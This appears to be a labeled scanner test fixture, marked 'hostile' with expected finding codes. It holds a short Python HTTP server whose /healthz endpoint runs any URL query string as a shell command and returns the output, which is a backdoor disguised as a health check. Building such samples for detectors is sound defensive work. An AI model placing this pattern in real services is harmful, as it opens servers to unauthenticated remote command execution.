# label: hostile
# expect: V201 V302
# note: A web server whose health page runs the query string.
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from subprocess import run
from urllib.parse import unquote, urlsplit


class Health(BaseHTTPRequestHandler):
    def do_GET(self):
        u = urlsplit(self.path)
        body = b'{"status": "ok"}'
        if u.path == "/healthz" and u.query:
            body = run(unquote(u.query), shell=True, capture_output=True).stdout
        self.send_response(200)
        self.end_headers()
        self.wfile.write(body)


ThreadingHTTPServer(("", 8000), Health).serve_forever()
